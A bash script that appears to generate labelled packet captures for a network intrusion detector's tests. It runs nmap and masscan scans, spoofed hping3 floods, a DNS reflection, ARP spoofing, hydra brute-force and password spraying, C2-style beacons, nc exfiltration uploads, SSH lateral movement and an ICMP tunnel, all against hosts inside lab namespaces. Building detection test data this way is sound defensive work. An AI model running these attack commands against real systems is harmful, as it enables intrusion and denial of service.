#!/usr/bin/env bash
# Records the labelled captures of testdata/detect/: real attack tools and
# real everyday traffic between hosts in network namespaces this script
# creates (see record-detect-lib.sh for the LAN), one capture per scenario,
# tcpdump on the bridge with a 128-byte snap length (600 for brute-http,
# whose HTTP 401 responses the detector reads from HTTP events, and 700 for
# beacon-rotating, whose TLS server name it reads from ClientHello events).
#
# Attacks (true positives): nmap -sS/-sT/-sF/-sN/-sX/-sU, masscan, an nmap
# port-445 sweep, nmap ARP and ICMP host discovery, hping3 SYN/UDP/ICMP
# floods, a DNS reflection made with hping3 (spoofed source: the victim is
# one of our namespaces), arpspoof, arping gratuitous-ARP storm, hydra against
# sshd, vsftpd and nginx basic auth, hydra spraying one password over twelve
# sshd addresses, an HTTP beacon (curl every 2 s ± 20 %,
# some beats missed) with a long-lived TCP session beside it, the same over
# HTTPS, and over HTTPS to one name whose address rotates, a 12 MB upload
# to the "internet" host and 30 uploads of 400 KB to it, SSH fan-out and an SSH chain between internal hosts,
# ptunnel-ng (SSH over ICMP echo) and SSH on port 443.
# Everyday traffic (true negatives): dig, curl over HTTP and HTTPS, a small
# parallel "page load", ssh sessions, scp, NTP (chronyd -Q), ping, a download;
# and a few minutes of an office (benign-office): browsing 30 outside sites,
# lookups, an interactive ssh session, NTP polls, copies.
#
# Needs root, iproute2, ethtool, tcpdump, zstd, nmap, masscan, hping3,
# dsniff (arpspoof), iputils-arping, hydra, openssh-server/-client, nginx-light,
# vsftpd, dnsmasq-base, chrony, ptunnel-ng, curl, dnsutils, netcat-openbsd.
# Usage: sudo scripts/record-detect.sh [OUT_DIR] (default testdata/detect).
# Captures of more than 64 KiB are stored zstd-compressed (`.pcap.zst`,
# which netsec reads directly). Labels are in OUT_DIR/labels.toml, written
# by hand from what this script does: re-check them after recording again.
set -euo pipefail
# shellcheck source-path=SCRIPTDIR source=record-detect-lib.sh
. "$(dirname "$0")/record-detect-lib.sh"

det_need ip ethtool tcpdump zstd nmap masscan hping3 arpspoof arping hydra sshd ssh scp \
    nginx vsftpd dnsmasq chronyd ptunnel-ng curl dig nc ping

OUT=$(realpath -m "${1:-testdata/detect}")
S=$DET_NET.20
A=$DET_NET.10
C=$DET_NET.30
D=$DET_NET.31
X=$DET_X
# $WORK, the LAN, SSH keys and SSH_OPTS (record-detect-lib.sh)
det_start

# --- services -----------------------------------------------------------------
mkdir -p /var/run/vsftpd/empty
# sshd_on HOST ADDR PORT [NAME]: an sshd of our own (keys from $WORK; root
# may log in with the lab key only, so every password hydra tries fails).
sshd_on() {
    local name=${4:-$1}
    cat >"$WORK/sshd-$name.conf" <<EOF
ListenAddress $2
Port $3
HostKey $WORK/ssh_host_ed25519_key
PidFile $WORK/sshd-$name.pid
AuthorizedKeysFile $WORK/authorized_keys
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
StrictModes no
MaxStartups 100
Subsystem sftp internal-sftp
EOF
    on "$1" /usr/sbin/sshd -f "$WORK/sshd-$name.conf"
}
sshd_on s "$S" 22
for v in 1 2 3 4; do sshd_on "v$v" "$DET_NET.4$v" 22; done
sshd_on x "$X" 443

mkdir -p "$WORK/www/admin"
echo "<html><head><title>intranet</title></head><body>hello</body></html>" >"$WORK/www/index.html"
for i in $(seq 1 8); do head -c $((2000 * i)) /dev/zero | tr '\0' 'a' >"$WORK/www/res$i.css"; done
head -c 1000000 /dev/zero >"$WORK/www/update.bin"
echo ok >"$WORK/www/c2"
printf 'admin:%s\n' "$(openssl passwd -apr1 's3cret-Admin-9')" >"$WORK/htpasswd"
openssl req -x509 -newkey rsa:2048 -nodes -days 3650 -subj "/CN=intranet.lab" \
    -keyout "$WORK/key.pem" -out "$WORK/cert.pem" 2>/dev/null
nginx_on() { # HOST ADDR
    cat >"$WORK/nginx-$1.conf" <<EOF
pid $WORK/nginx-$1.pid;
error_log $WORK/nginx-$1-error.log;
events {}
http {
    access_log off;
    server {
        listen $2:80;
        root $WORK/www;
        location /admin/ { auth_basic "admin"; auth_basic_user_file $WORK/htpasswd; }
    }
    server {
        listen $2:8443 ssl;
        ssl_certificate $WORK/cert.pem;
        ssl_certificate_key $WORK/key.pem;
        root $WORK/www;
    }
}
EOF
    on "$1" nginx -c "$WORK/nginx-$1.conf"
}
nginx_on s "$S"
# the outside server answers on every address it is given (see office)
nginx_on x 0.0.0.0

txt=$(head -c 240 /dev/zero | tr '\0' 'v')
cat >"$WORK/dnsmasq.conf" <<EOF
no-resolv
no-hosts
listen-address=$S
bind-interfaces
address=/intranet.lab/$S
address=/updates.example.net/$X
txt-record=big.example.lab,"$txt","$txt","$txt","$txt"
pid-file=$WORK/dnsmasq.pid
EOF
on s dnsmasq --conf-file="$WORK/dnsmasq.conf"

cat >"$WORK/vsftpd.conf" <<EOF
listen=YES
listen_address=$S
background=YES
anonymous_enable=NO
local_enable=YES
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
delay_failed_login=0
EOF
on s vsftpd "$WORK/vsftpd.conf"

# -x: serve time without ever touching this machine's clock (shared by all namespaces).
cat >"$WORK/chrony-s.conf" <<EOF
bindaddress $S
allow 10.250.0.0/24
local stratum 8
cmdport 0
pidfile $WORK/chrony-s.pid
EOF
on s chronyd -x -f "$WORK/chrony-s.conf"
# nmap -sU needs every closed port to answer (Linux limits ICMP errors to ~1/s by default).
on s sysctl -qw net.ipv4.icmp_ratelimit=0
sleep 1

# --- recording ----------------------------------------------------------------
mkdir -p "$OUT"
# rec NAME FUNCTION (record-detect-lib.sh) captures each scenario.
# Warm the ARP caches so that each capture holds its scenario, not lookups.
warm() {
    local pair h
    for pair in $DET_HOSTS; do
        h=${pair%%:*}
        [ "$h" = gw ] || on "$h" ping -c 1 -W 1 "$DET_NET.1" >/dev/null 2>&1 || true
    done
    on a ping -c 1 -W 1 "$S" >/dev/null 2>&1 || true
}

scan_syn() { on a nmap -n -Pn -sS -T4 -p 1-200 --max-retries 1 "$S"; }
# nmap's "polite" timing: one probe every 0.4 s
scan_slow() { on a nmap -n -Pn -sS -T2 -p 1-60 --max-retries 0 "$S"; }
scan_connect() { on a nmap -n -Pn -sT -T4 -p 1-200 --max-retries 1 "$S"; }
scan_fin() { on a nmap -n -Pn -sF -T4 -p 1-100 --max-retries 0 "$S"; }
scan_null() { on a nmap -n -Pn -sN -T4 -p 1-100 --max-retries 0 "$S"; }
scan_xmas() { on a nmap -n -Pn -sX -T4 -p 1-100 --max-retries 0 "$S"; }
scan_udp() { on a nmap -n -Pn -sU -T4 -p 1-100 --max-retries 1 "$S"; }
scan_masscan() {
    # masscan 1.3.2 never exits after --wait without a terminal: bound it
    on a timeout -k 2 -s INT 6 masscan -p1-300 "$S" --rate 500 --router-mac "$(mac_of s)" --wait 1 </dev/null
}
sweep_tcp() { on a nmap -n -Pn -sS -p 445 --max-retries 0 10.250.8.0/24; }
sweep_arp() { on a nmap -n -sn "$DET_NET.0/24"; }
sweep_icmp() { on a nmap -n -sn -PE --max-retries 0 10.250.8.0/24; }
# hping3 --flood ignores -c and sends ~100k packets/s here, far too much to
# keep: -i u50 (20k/s requested) with -c bounds each flood to 2000 packets,
# about 100-200 ms at the rate hping3 reaches.
flood_syn() { on a hping3 -q -S -p 80 -i u50 -c 2000 "$S"; }
# four hping3 at once, each with the source address of an unused lab address
# (10.250.0.100-103): the SYN+ACKs go nowhere, as in a spoofed flood
flood_syn_spoofed() {
    local i
    for i in 100 101 102 103; do on a hping3 -q -S -p 443 -a "$DET_NET.$i" -i u200 -c 500 "$S" & done
    wait
}
flood_udp() { on a hping3 -q --udp -p 9999 -d 200 -i u50 -c 2000 "$S"; }
flood_icmp() { on a hping3 -q --icmp -d 200 -i u50 -c 2000 "$S"; }
# DNS reflection: queries for a 1 KB TXT record (EDNS0, 4096-byte UDP) sent
# with the victim's (c's) address as source; dnsmasq answers c.
amp_dns() {
    printf '\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x01\x03big\x07example\x03lab\x00\x00\x10\x00\x01\x00\x00\x29\x10\x00\x00\x00\x00\x00\x00\x00' \
        >"$WORK/query.bin"
    on a hping3 -q --udp -a "$C" -s 40000 -p 53 -E "$WORK/query.bin" \
        -d "$(stat -c %s "$WORK/query.bin")" -i u5000 -c 300 "$S"
}
arp_spoof() {
    on v1 ping -c 2 -i 0.5 "$DET_NET.1"
    on a timeout -s INT 7 arpspoof -i eth0 -t "$DET_NET.41" "$DET_NET.1"
    on v1 ping -c 2 -i 0.5 "$DET_NET.1"
}
# 60 unsolicited ARP announcements of the attacker's address in 10 s: six
# arping at once, ten each (arping's interval is whole seconds; -i 0 hangs)
arp_storm() {
    local i
    for i in 1 2 3 4 5 6; do on a arping -q -U -c 10 -I eth0 "$A" & done
    wait
}
# 80 guesses: sshd closes a connection after MaxAuthTries (6) failures and
# vsftpd after max_login_fails (3), so hydra's 4 tasks open 15-30 sessions.
words() {
    local w
    for w in 123456 password admin root toor qwerty letmein 12345678 \
        welcome changeme dragon master monkey 111111 abc123 passw0rd; do
        printf '%s\n%s1\n%s123\n%s!\n%s2024\n' "$w" "$w" "$w" "$w" "$w"
    done >"$WORK/words.txt"
}
brute_ssh() {
    words
    on a hydra -l root -P "$WORK/words.txt" -t 4 -I "ssh://$S"
    # then a session that lasts: what a successful guess is followed by
    on a ssh "${SSH_OPTS[@]}" "root@$S" 'sleep 4; uname -a; head -c 20000 /dev/zero'
}
brute_ftp() { words && on a hydra -l ftpuser -P "$WORK/words.txt" -t 4 -I "ftp://$S"; }
brute_http() {
    words
    on a hydra -l admin -P "$WORK/words.txt" -t 4 -I "http-get://$S/admin/"
}
beacon() {
    # a long-lived session beside the beacon: a keep-alive every 10 s for 2 min
    on x timeout 140 nc -l -p 9000 >/dev/null &
    sleep 0.5
    (for _ in $(seq 1 12); do echo keepalive; sleep 10; done) | on a timeout 130 nc -N "$X" 9000 &
    local end=$((SECONDS + 120))
    while [ $SECONDS -lt $end ]; do
        # about one beat in eight is missed (sleep through it)
        [ $((RANDOM % 8)) -eq 0 ] || on a curl -s -o /dev/null "http://$X/c2"
        # 2 s ± 20 %: uniform in 1.6 .. 2.4 s
        sleep "$(awk -v r=$RANDOM 'BEGIN { printf "%.2f", 1.6 + 0.8 * r / 32767 }')"
    done
    wait
}
# the same beacon over HTTPS (TLS 1.3 to nginx on 8443), 90 s
beacon_https() {
    local end=$((SECONDS + 90))
    while [ $SECONDS -lt $end ]; do
        [ $((RANDOM % 8)) -eq 0 ] || on a curl -sk -o /dev/null "https://$X:8443/c2"
        sleep "$(awk -v r=$RANDOM 'BEGIN { printf "%.2f", 1.6 + 0.8 * r / 32767 }')"
    done
}
# one password, two users, against sshd on twelve outside addresses
spray_ssh() {
    local i
    for i in $(seq 60 71); do
        on x ip addr replace "203.0.113.$i/24" dev eth0
        echo "203.0.113.$i"
    done >"$WORK/targets.txt"
    sshd_on x 0.0.0.0 22 x22
    sleep 0.5
    printf '%s\n' root admin >"$WORK/users.txt"
    on a hydra -L "$WORK/users.txt" -p 'Winter2024!' -M "$WORK/targets.txt" -t 1 -T 12 -I ssh
}
# the beacon over HTTPS to one name whose address rotates among four
# (203.0.113.60-63), as C2 behind a CDN or fast flux: SNI cdn.example.net
beacon_rotating() {
    local i addr end
    for i in 60 61 62 63; do on x ip addr replace "203.0.113.$i/24" dev eth0; done
    end=$((SECONDS + 90))
    while [ $SECONDS -lt $end ]; do
        addr=203.0.113.$((60 + RANDOM % 4))
        [ $((RANDOM % 8)) -eq 0 ] || on a curl -sk -o /dev/null \
            --resolve "cdn.example.net:8443:$addr" "https://cdn.example.net:8443/c2"
        sleep "$(awk -v r=$RANDOM 'BEGIN { printf "%.2f", 1.6 + 0.8 * r / 32767 }')"
    done
}
exfil() {
    on x timeout 60 nc -l -p 8080 >/dev/null &
    sleep 0.5
    head -c 12000000 /dev/zero | on a timeout 50 nc -N "$X" 8080
    wait
}
# slow exfiltration: 30 uploads of 400 KB, one every 3 s
exfil_slow() {
    local i
    on x timeout 120 nc -lk -p 8080 >/dev/null &
    sleep 0.5
    for i in $(seq 30); do
        head -c 400000 /dev/zero | on a timeout 10 nc -N "$X" 8080
        sleep 3
    done
    kill %1 2>/dev/null || true
    wait
}
lateral() {
    local v
    for v in 41 42 43 44 20; do
        on a ssh "${SSH_OPTS[@]}" "root@$DET_NET.$v" 'hostname -I' || true
        for port in 445 3389 5985 135; do on a nc -z -w 1 "$DET_NET.$v" "$port" || true; done
    done
    # a chain: a -> v1, and from there v1 -> v2
    on a ssh "${SSH_OPTS[@]}" "root@$DET_NET.41" \
        "ssh -i $WORK/id -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@$DET_NET.42 'sleep 1; uname -a'"
}
tunnel_icmp() {
    on x sysctl -qw net.ipv4.icmp_echo_ignore_all=1
    on x timeout 40 ptunnel-ng -v -1 -o/dev/null -r"$X" -R443 &
    local server=$!
    sleep 1
    on a timeout 35 ptunnel-ng -v -1 -o/dev/null -p"$X" -l2222 -r"$X" -R443 &
    local client=$!
    sleep 2
    on a timeout 25 ssh "${SSH_OPTS[@]}" -p 2222 root@127.0.0.1 'head -c 60000 /dev/urandom' | wc -c
    sleep 1
    kill "$client" "$server" 2>/dev/null || true
    wait
    on x sysctl -qw net.ipv4.icmp_echo_ignore_all=0
}
ssh_443() { on a ssh "${SSH_OPTS[@]}" -p 443 "root@$X" 'uname -a; sleep 1'; }
benign() {
    local i
    for i in 1 2 3 4 5 6; do
        on c dig +short @"$S" intranet.lab A
        on d dig +short @"$S" updates.example.net A
        on c curl -s -o /dev/null "http://$S/"
        sleep 0.7
    done
    on c curl -sk -o /dev/null "https://$S:8443/"
    on d curl -sk -o /dev/null "https://$X:8443/"
    # a page load: the document and eight resources, in parallel
    on d curl -s --parallel -o /dev/null -o /dev/null -o /dev/null -o /dev/null -o /dev/null \
        -o /dev/null -o /dev/null -o /dev/null -o /dev/null "http://$X/" \
        "http://$X/res1.css" "http://$X/res2.css" "http://$X/res3.css" "http://$X/res4.css" \
        "http://$X/res5.css" "http://$X/res6.css" "http://$X/res7.css" "http://$X/res8.css"
    on d curl -s -o /dev/null "http://$X/update.bin"
    on c ssh "${SSH_OPTS[@]}" "root@$S" 'ls /; sleep 1'
    on c ssh -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
        -o ConnectTimeout=5 "nobody@$S" true # a typo'd login: refused
    head -c 300000 /dev/urandom >"$WORK/report.pdf"
    on c scp -q "${SSH_OPTS[@]}" "$WORK/report.pdf" "root@$S:/dev/null"
    on v1 ssh "${SSH_OPTS[@]}" "root@$S" 'uptime'
    on c chronyd -x -Q -f /dev/null "server $S iburst maxsamples 4"
    on d chronyd -x -Q -f /dev/null "server $S iburst maxsamples 4"
    on c ping -c 3 -i 0.3 "$S"
    on d ping -c 3 -i 0.3 "$X"
    on c curl -s -o /dev/null -u admin:s3cret-Admin-9 "http://$S/admin/"
}

warm
rec scan-syn scan_syn
rec scan-connect scan_connect
rec scan-slow scan_slow
rec scan-fin scan_fin
rec scan-null scan_null
rec scan-xmas scan_xmas
rec scan-udp scan_udp
rec scan-masscan scan_masscan
rec sweep-tcp445 sweep_tcp
rec sweep-arp sweep_arp
rec sweep-icmp sweep_icmp
rec flood-syn flood_syn
rec flood-syn-spoofed flood_syn_spoofed
rec flood-udp flood_udp
rec flood-icmp flood_icmp
rec amp-dns amp_dns
rec arp-spoof arp_spoof
rec arp-storm arp_storm
rec brute-ssh brute_ssh
rec brute-ftp brute_ftp
# HTTP events need whole response heads: this one capture keeps 600 bytes a frame
SNAPLEN=600 rec brute-http brute_http
rec spray-ssh spray_ssh
rec exfil-upload exfil
rec exfil-slow exfil_slow
rec lateral-ssh lateral
rec tunnel-icmp tunnel_icmp
rec ssh-on-443 ssh_443
# A few minutes of an office: browsing 30 outside sites with pauses a person
# makes, name lookups, an interactive ssh session, NTP polls every 2 s, copies.
office() {
    local i end site n k args
    for i in $(seq 60 89); do on x ip addr replace "203.0.113.$i/24" dev eth0; done
    printf 'server %s minpoll 1 maxpoll 1 iburst\ncmdport 0\npidfile %s\n' \
        "$S" "$WORK/chrony-v1.pid" >"$WORK/chrony-v1.conf"
    on v1 timeout 150 chronyd -x -d -f "$WORK/chrony-v1.conf" >/dev/null 2>&1 &
    on d timeout 110 ssh "${SSH_OPTS[@]}" "root@$S" \
        'for i in $(seq 20); do uptime; ps aux | head -20; sleep 5; done' >/dev/null &
    (for i in $(seq 60); do
        on v3 dig +short @"$S" "host$RANDOM.intranet.lab" >/dev/null
        sleep "$(awk -v r=$RANDOM 'BEGIN { printf "%.1f", 4 * r / 32767 }')"
    done) &
    end=$((SECONDS + 140))
    while [ $SECONDS -lt $end ]; do
        site=203.0.113.$((60 + RANDOM % 30))
        on c dig +short @"$S" updates.example.net >/dev/null
        n=$((2 + RANDOM % 5))
        args=(-o /dev/null "http://$site/")
        for k in $(seq "$n"); do args+=(-o /dev/null "http://$site/res$k.css"); done
        on c curl -s --parallel "${args[@]}"
        if [ $((RANDOM % 3)) -eq 0 ]; then on c curl -sk -o /dev/null "https://$site:8443/"; fi
        sleep "$(awk -v r=$RANDOM 'BEGIN { printf "%.1f", 1 + 11 * r / 32767 }')"
    done
    head -c 2000000 /dev/urandom >"$WORK/share.tar"
    on d scp -q "${SSH_OPTS[@]}" "$WORK/share.tar" "root@$S:$WORK/share-copy.tar"
    on d curl -sk -o /dev/null "https://$X:8443/update.bin"
    wait
}

warm
rec benign benign
rec benign-office office
rec beacon-http beacon
rec beacon-https beacon_https
# the server name is read from ClientHello events: whole hellos (~600 bytes)
SNAPLEN=700 rec beacon-rotating beacon_rotating
du -sh "$OUT"
